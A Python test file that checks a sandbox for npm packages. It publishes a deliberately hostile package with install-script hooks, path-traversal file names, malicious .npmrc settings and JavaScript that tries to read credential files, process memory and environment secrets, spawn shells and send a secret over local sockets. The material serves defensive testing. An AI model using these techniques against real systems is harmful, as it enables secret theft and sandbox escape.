"""Code of npm packages runs only in the sandbox: not when it is installed, and not before the first line of Node.js."""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from onnxgate.core.errors import UnavailableError
from onnxgate.project.lock.types import LockedRuntime, NpmPackage
from onnxgate.runtimes.environments import node
from onnxgate.runtimes.environments.builder import Environments
from onnxgate.runtimes.worker import linux_sandbox
from tests.conftest import need
from tests.project.lock.npm_registry import COMPANION, ENGINE, serve, use_registry

pytestmark = [
    pytest.mark.surface,
    pytest.mark.skipif(
        not sys.platform.startswith("linux") or linux_sandbox.landlock_version() < 6, reason="needs Landlock 6"
    ),
]
SECRET = "4f9c secret of the gate"
SCRIPTS = ("preinstall", "install", "postinstall", "prepublish", "preprepare", "prepare", "postprepare", "dependencies")
SETTINGS = (
    "ignore-scripts=false\nregistry=http://127.0.0.1:{port}/\nscript-shell=/bin/sh\nnode-options=--require={home}\n"
)
ATTEMPTS = """
const [fs, net, os, path, child] = ["fs", "net", "os", "path", "child_process"].map((name) => require(name));
const { home, port, secret } = SETTINGS;
const gate = process.ppid;
const attempts = {
  "read a key": () => fs.readFileSync(path.join(home, "key")),
  "read through a link": () => {
    fs.symlinkSync(path.join(home, "key"), "link");
    fs.readFileSync("link");
  },
  "list the home folder": () => fs.readdirSync(home),
  "copy a file": () => fs.copyFileSync(path.join(home, "key"), "copy"),
  "write a file": () => fs.writeFileSync(path.join(home, "written"), "x"),
  "create a folder": () => fs.mkdirSync(path.join(home, "folder")),
  "delete a file": () => fs.unlinkSync(path.join(home, "deleted")),
  "move a file": () => fs.renameSync(path.join(home, "moved"), path.join(home, "spare")),
  "change a mode": () => fs.chmodSync(path.join(home, "spare"), 0o777),
  "change times": () => fs.utimesSync(path.join(home, "spare"), 0, 0),
  "change its own package": () => fs.appendFileSync(__filename, "//"),
  "add to its own package": () => fs.writeFileSync(path.join(__dirname, "added.js"), ""),
  "read the environment of the gate": () => fs.readFileSync(`/proc/${gate}/environ`),
  "read the memory of the gate": () => fs.openSync(`/proc/${gate}/mem`, "r"),
  "read the memory map of the gate": () => fs.readFileSync(`/proc/${gate}/maps`),
  "use the files of the gate": () => fs.readlinkSync(`/proc/${gate}/fd/0`),
  "find the secret in its environment": () => {
    if (!JSON.stringify(process.env).includes(secret)) throw new Error();
  },
  "signal the gate": () => process.kill(gate, "SIGURG"),
  "check the gate": () => process.kill(gate, 0),
  "signal its group": () => process.kill(0, "SIGURG"),
  "change the priority of the gate": () => os.setPriority(gate, os.getPriority(gate)),
  "start a program": () => {
    if (child.spawnSync("/bin/true").error) throw new Error();
  },
  "start a shell": () => child.execSync("true", { stdio: "ignore" }),
  "start Node.js": () => {
    if (child.spawnSync(process.execPath, ["-e", "0"]).error) throw new Error();
  },
  "open the debugger": () => {
    require("inspector").open(0, "127.0.0.1");
    if (!require("inspector").url()) throw new Error();
  },
  "open a terminal": () => fs.openSync("/dev/tty", "r+"),
  "share memory": () => fs.writeFileSync("/dev/shm/onnxgate-attempt", "x"),
  "watch a folder": () => fs.watch(home).close(),
  "change the user": () => process.setgid(process.getgid() + 1),
};
const connect = (options) =>
  new Promise((done, fail) => {
    const connection = net.connect(options, () => connection.end(secret, done));
    connection.on("error", fail);
  });
const later = {
  "connect": () => connect({ port, host: "127.0.0.1" }),
  "connect to a Unix socket": () => connect({ path: path.join(home, "socket") }),
  "listen": () => new Promise((done, fail) => net.createServer().on("error", fail).listen(0, done)),
  "send a datagram": () =>
    new Promise((done, fail) => {
      const sender = require("dgram").createSocket("udp4");
      sender.on("error", fail).send(secret, port, "127.0.0.1", (error) => (error ? fail(error) : done()));
    }),
  "use the network in a thread": () =>
    new Promise((done, fail) => {
      const code = `require("net").connect(${port}, () => process.exit(0)).on("error", () => process.exit(1))`;
      const thread = new (require("worker_threads").Worker)(code, { eval: true });
      thread.on("error", fail).on("exit", (status) => (status ? fail() : done()));
    }),
};
const names = [];
for (const [name, attempt] of Object.entries(attempts)) {
  try {
    attempt();
    names.push(name);
  } catch {}
}
exports.env = { wasm: {}, versions: {} };
exports.InferenceSession = {
  create: async () => {
    for (const [name, attempt] of Object.entries(later)) {
      await attempt().then(() => names.push(name), () => {});
    }
    throw new Error(`succeeded: ${names}`);
  },
};
"""
RUN = """
const print = ({ message }) => { console.log(message); process.exit(); };
require(process.argv[1]).InferenceSession.create().catch(print);
"""
NAMES = re.findall(r'^  "([^"]+)": ', ATTEMPTS, re.MULTILINE)
DENIED_TO_ALL = {"open a terminal"} | (set() if os.getuid() == 0 else {"change the user"})


def hostile_files(registry: str, settings: dict[str, object]) -> dict[str, bytes]:
    """Return the files of a package that attacks when it is installed and when it is imported."""
    home = str(settings["home"])
    manifest = {
        "name": ENGINE,
        "version": "1.0.0",
        "main": "index.js",
        "scripts": {name: f"touch '{home}/{name}'" for name in SCRIPTS},
        "bin": {"node": "index.js", "../../../../home/bin": "index.js"},
        "dependencies": {COMPANION: "1.0.0", "evil": f"{registry}/evil.tgz", "cloned": f"git+{registry}/evil.git"},
        "bundleDependencies": [COMPANION],
    }
    extra = {"version": "1.0.0", "resolved": f"{registry}/evil.tgz", "hasInstallScript": True}
    shrinkwrap = {"name": ENGINE, "lockfileVersion": 3, "packages": {"": manifest, "node_modules/evil": extra}}
    actions = [{"action_name": "x", "inputs": [], "outputs": ["x"], "action": ["touch", f"{home}/gyp"]}]
    texts = {
        "package.json": json.dumps(manifest),
        "npm-shrinkwrap.json": json.dumps(shrinkwrap),
        "binding.gyp": json.dumps({"targets": [{"target_name": "x", "type": "none", "actions": actions}]}),
        ".npmrc": SETTINGS.format(**settings),
        "index.js": ATTEMPTS.replace("SETTINGS", json.dumps(settings)),
        "../../../home/outside": "",
        "node_modules/.hooks/postinstall": f"#!/bin/sh\ntouch '{home}/hook'\n",
    }
    return {path: text.encode() for path, text in texts.items()}


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Create a folder that packages must not access, and an environment with a secret."""
    need("node")
    need("npm")
    monkeypatch.setenv("HF_TOKEN", SECRET)
    (tmp_path / "home").mkdir()
    for name in ("key", "spare", "moved", "deleted"):
        (tmp_path / "home" / name).write_text("content")
    return tmp_path / "home"


def test_hostile_package(home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A package gets nothing from install scripts, its settings, its other files and its code."""
    before = {path.name: path.stat() for path in home.iterdir()}
    monkeypatch.setenv("npm_config_ignore_scripts", "false")
    with serve() as registry, socket.create_server(("127.0.0.1", 0)) as server:
        use_registry(monkeypatch, registry.url, tmp_path / "npm")
        settings = {"home": str(home), "port": server.getsockname()[1], "secret": SECRET}
        companion = {"package.json": json.dumps({"name": COMPANION, "version": "1.0.0"}).encode()}
        hashes = {
            COMPANION: registry.publish(COMPANION, "1.0.0", companion),
            ENGINE: registry.publish(ENGINE, "1.0.0", hostile_files(registry.url, settings)),
        }
        pins = tuple(NpmPackage(name=name, version="1.0.0", integrity=value) for name, value in hashes.items())
        packages = tuple(f"{pin.name}=={pin.version}" for pin in pins)
        runtime = LockedRuntime(engine=ENGINE, release="1.0.0", packages=packages)
        with pytest.raises(UnavailableError) as caught:
            Environments(tmp_path / "cache", offline=False).prepare(runtime, pins)
        server.settimeout(0)
        with pytest.raises(BlockingIOError):
            server.accept()

    assert caught.value.message == f"`{runtime.name}` does not work on this machine: Error: succeeded:"
    assert registry.names <= {ENGINE, COMPANION}
    assert {path.name: path.stat() for path in home.iterdir()} == before


def test_deeply_nested_manifest(tmp_path: Path) -> None:
    """A manifest that is nested too deeply has no version, and is not an error in onnxgate."""
    (tmp_path / ENGINE).mkdir()
    (tmp_path / ENGINE / "package.json").write_text('{"version": "1.0.0", "x": ' + "[" * 5000 + "]" * 5000 + "}")

    assert node._read_versions(tmp_path) == {}


def test_the_attempts_succeed_without_the_sandbox(home: Path, tmp_path: Path) -> None:
    """It is the sandbox that denies the attempts of the package's code."""
    with socket.create_server(("127.0.0.1", 0)) as server, socket.socket(socket.AF_UNIX) as local:
        local.bind(str(home / "socket"))
        local.listen()
        settings = {"home": str(home), "port": server.getsockname()[1], "secret": SECRET}
        (tmp_path / "index.js").write_bytes(hostile_files("", settings)["index.js"])
        command = ["node", "-e", RUN, str(tmp_path / "index.js")]
        shell = ["sh", "-c", '"$@"; true', "sh", *command]  # the parent, instead of the gate
        ended = subprocess.run(shell, cwd=tmp_path, capture_output=True, text=True, start_new_session=True, check=True)

    possible = set(ended.stdout.partition(": ")[2].strip().split(","))
    assert possible == set(NAMES) - DENIED_TO_ALL
